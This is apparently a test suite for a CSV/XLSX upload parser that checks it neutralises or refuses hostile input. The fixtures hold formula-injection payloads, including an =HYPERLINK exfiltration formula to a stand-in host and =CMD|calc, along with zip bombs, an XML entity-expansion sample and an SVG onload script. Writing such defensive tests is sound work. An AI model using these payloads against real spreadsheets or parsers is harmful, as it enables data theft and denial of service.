import t from 'tap';
import { AppError } from '../../core/errors.js';
import {
  readTable,
  sniff,
  kindOfName,
  neutralise,
  ROW_MAX_CHARS,
  TABLE_COLUMNS_MAX,
  TABLE_ROWS_MAX,
} from '../../core/tables/index.js';
import { ZIP_MAX_ENTRIES, ZIP_MAX_TOTAL_BYTES } from '../../core/tables/zip.js';
import { JPEG_HEAD, makeXlsx, makeZip, PNG_1PX, xlsxParts } from '../helpers/xlsx.js';

function code(fn: () => unknown): string | undefined {
  try {
    fn();
    return undefined;
  } catch (err) {
    return err instanceof AppError ? err.code : `not an AppError: ${String(err)}`;
  }
}

t.test('CSV: rows in fetch_sheet shape, quotes, CRLF, semicolons, BOMs', async (t) => {
  const csv = 'month,sales\r\nJan,"1,200"\r\n"Feb ""best""",1500\r\n';
  const r = readTable('sales.csv', Buffer.from(csv));
  t.same(r.rows, [
    ['month', 'sales'],
    ['Jan', '1,200'],
    ['Feb "best"', '1500'],
  ]);
  t.equal(r.range, 'sales!A1:B3');
  t.equal(r.truncated, false);
  t.same(r.notes, []);
  t.same(
    readTable('s.csv', Buffer.from('a;b\n1;2\n')).rows,
    [
      ['a', 'b'],
      ['1', '2'],
    ],
    'semicolon delimiter',
  );
  const bom8 = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('ä,b\n1,2')]);
  t.same(readTable('s.csv', bom8).rows[0], ['ä', 'b'], 'UTF-8 BOM dropped');
  const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('ü,b\n1,2', 'utf16le')]);
  t.same(
    readTable('s.csv', le).rows,
    [
      ['ü', 'b'],
      ['1', '2'],
    ],
    'UTF-16 LE with BOM',
  );
  const be = Buffer.from(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('x,y', 'utf16le').swap16()]));
  t.same(readTable('s.csv', be).rows, [['x', 'y']], 'UTF-16 BE with BOM');
  t.same(readTable('s.csv', Buffer.from('a,b\n1,2\n3,4'), { range: 'B2:B3' }).rows, [['2'], ['4']], 'a range');
});

t.test('hostile corpus: formula injection is neutralised, never evaluated', async (t) => {
  const csv = 'name,value\n=HYPERLINK("http://evil.test?x="&A1),1\n+SUM(1+1),-5\n@cmd,-1.5e3\n-2+3,\t=1\n"\r=x",ok\n';
  const r = readTable('evil.csv', Buffer.from(csv));
  t.same(
    r.rows,
    [
      ['name', 'value'],
      ['\'=HYPERLINK("http://evil.test?x="&A1)', '1'],
      ["'+SUM(1+1)", '-5'],
      ["'@cmd", '-1.5e3'],
      ["'-2+3", "'\t=1"],
      ["'\r=x", 'ok'],
    ],
    'every formula-looking cell gets a leading quote; plain numbers stay numbers',
  );
  t.match(r.notes.join(' '), /6 cell\(s\) that looked like a formula/);
  t.equal(neutralise('-12.5'), '-12.5');
  t.equal(neutralise('=1+1'), "'=1+1");
  const x = readTable(
    'f.xlsx',
    makeXlsx({
      Data: [
        ['a', 'b'],
        ['=CMD|calc', 3],
      ],
    }),
  );
  t.same(
    x.rows,
    [
      ['a', 'b'],
      ["'=CMD|calc", '3'],
    ],
    'an XLSX formula gives its cached value, neutralised; the <f> is never read',
  );
});

t.test('hostile corpus: caps on rows, columns and row size', async (t) => {
  const many = Array.from({ length: TABLE_ROWS_MAX + 50 }, (_, i) => `${i},x`).join('\n');
  const r = readTable('many.csv', Buffer.from(many));
  t.equal(r.rows.length, TABLE_ROWS_MAX);
  t.equal(r.truncated, true, 'too many rows: truncated, as fetch_sheet says it');
  t.equal(readTable('many.csv', Buffer.from(many), { maxRows: 5 }).rows.length, 5);
  const wide = Array.from({ length: TABLE_COLUMNS_MAX + 10 }, (_, i) => `c${i}`).join(',');
  const w = readTable('wide.csv', Buffer.from(wide));
  t.equal(w.rows[0]!.length, TABLE_COLUMNS_MAX);
  t.match(w.notes.join(' '), /columns past .* were left out/);
  t.equal(
    code(() => readTable('huge.csv', Buffer.from('a,' + 'x'.repeat(ROW_MAX_CHARS + 10)))),
    'ERR_UPLOAD_ROW_TOO_LARGE',
    'a huge row is refused',
  );
  t.equal(
    code(() => readTable('huge.csv', Buffer.from('"' + 'x'.repeat(ROW_MAX_CHARS + 10)))),
    'ERR_UPLOAD_ROW_TOO_LARGE',
    'an unterminated quote cannot swallow the file',
  );
  const bigCell = makeXlsx({ S: [['y'.repeat(ROW_MAX_CHARS + 1)]] });
  t.equal(
    code(() => readTable('big.xlsx', bigCell)),
    'ERR_UPLOAD_ROW_TOO_LARGE',
  );
});

t.test('hostile corpus: bad encodings are read with replacement and said so', async (t) => {
  const latin1 = Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x2c, 0x31]); // "café,1" in Latin-1
  const r = readTable('l.csv', latin1);
  t.same(r.rows, [['caf\ufffd', '1']]);
  t.match(r.notes.join(' '), /not valid UTF-8/);
  t.equal(
    code(() => readTable('bin.csv', Buffer.from([0x61, 0x00, 0x62]))),
    'ERR_UPLOAD_MISMATCH',
    'binary (a NUL) is not a CSV',
  );
});

t.test('hostile corpus: zip bombs are refused before inflating', async (t) => {
  // A real bomb: 40 MB of zeros in one entry, twice (declared honestly): past the total cap.
  const zeros = Buffer.alloc(40 * 1024 * 1024);
  const bomb = makeZip([
    ...xlsxParts({ S: [['a']] }),
    { name: 'xl/media/a.bin', data: zeros },
    { name: 'xl/media/b.bin', data: zeros },
  ]);
  t.ok(bomb.length < 200_000, `the bomb is small on disk (${bomb.length} bytes)`);
  t.equal(
    code(() => readTable('b.xlsx', bomb)),
    'ERR_UPLOAD_ZIP_BOMB',
    `inflated total over ${ZIP_MAX_TOTAL_BYTES}`,
  );
  // A lying bomb: the sheet declares 100 bytes but inflates to 20 MB.
  const parts = xlsxParts({ S: [['a']] }).map((p) =>
    p.name === 'xl/worksheets/sheet1.xml'
      ? { ...p, data: `<worksheet><sheetData>${'<row/>'.repeat(3_500_000)}</sheetData></worksheet>`, declaredSize: 100 }
      : p,
  );
  const lie = makeZip(parts);
  const before = process.memoryUsage().arrayBuffers;
  t.equal(
    code(() => readTable('lie.xlsx', lie)),
    'ERR_UPLOAD_ZIP_BOMB',
    'an entry that inflates past its declared size stops at it',
  );
  t.ok(process.memoryUsage().arrayBuffers - before < 10 * 1024 * 1024, 'the lying entry was not inflated into memory');
  const entries = Array.from({ length: ZIP_MAX_ENTRIES + 1 }, (_, i) => ({ name: `x/${i}`, data: '' }));
  t.equal(
    code(() => readTable('n.xlsx', makeZip([...xlsxParts({ S: [['a']] }), ...entries]))),
    'ERR_UPLOAD_ZIP_BOMB',
    'too many entries',
  );
});

t.test('hostile corpus: broken or tricky workbooks', async (t) => {
  t.equal(
    code(() => readTable('x.xlsx', Buffer.from('PK\x03\x04 not really a zip'))),
    'ERR_UPLOAD_XLSX_INVALID',
  );
  t.equal(
    code(() => readTable('x.xlsx', Buffer.from('a,b\n1,2'))),
    'ERR_UPLOAD_MISMATCH',
    'a CSV named .xlsx',
  );
  const doctype = xlsxParts({ S: [['a']] }).map((p) =>
    p.name === 'xl/sharedStrings.xml'
      ? { ...p, data: '<!DOCTYPE x [<!ENTITY a "aaaa">]><sst><si><t>&a;</t></si></sst>' }
      : p,
  );
  t.equal(
    code(() => readTable('d.xlsx', makeZip(doctype))),
    'ERR_UPLOAD_XLSX_INVALID',
    'a DOCTYPE (entity expansion) is refused',
  );
  const noSheet = xlsxParts({ S: [['a']] }).filter((p) => !p.name.startsWith('xl/worksheets/'));
  t.equal(
    code(() => readTable('m.xlsx', makeZip(noSheet))),
    'ERR_UPLOAD_XLSX_INVALID',
    'a missing part',
  );
  const two = makeXlsx({
    First: [['a', 1]],
    Second: [
      ['b', 2],
      ['c', 3],
    ],
  });
  const r = readTable('two.xlsx', two, { sheet: 'Second' });
  t.same(r.rows, [
    ['b', '2'],
    ['c', '3'],
  ]);
  t.same(r.sheets, ['First', 'Second']);
  t.equal(r.range, 'Second!A1:B2');
  t.equal(
    code(() => readTable('two.xlsx', two, { sheet: 'Nope' })),
    'ERR_UPLOAD_SHEET_NOT_FOUND',
  );
  t.equal(
    code(() => readTable('two.xlsx', two, { range: 'A1:1:2' })),
    'ERR_UPLOAD_RANGE',
  );
  t.equal(
    readTable('s.xlsx', makeZip(xlsxParts({ S: [['q']] }).map((p) => ({ ...p, store: true })))).rows[0]![0],
    'q',
    'stored (not deflated) entries read',
  );
});

t.test('names and magic bytes', async (t) => {
  t.equal(kindOfName('a.CSV'), 'csv');
  t.equal(kindOfName('a.jpeg'), 'jpeg');
  t.equal(kindOfName('a.exe'), undefined);
  t.equal(kindOfName('a.csv.exe'), undefined);
  t.ok(sniff('png', PNG_1PX));
  t.ok(sniff('jpeg', JPEG_HEAD));
  t.notOk(sniff('png', JPEG_HEAD), 'a JPEG named .png');
  t.notOk(sniff('jpeg', Buffer.from('<svg onload="alert(1)"/>')), 'an SVG named .jpg');
  t.notOk(sniff('xlsx', PNG_1PX));
  t.equal(
    code(() => readTable('pic.png', PNG_1PX)),
    'ERR_UPLOAD_TYPE',
    'an image is not a table',
  );
});
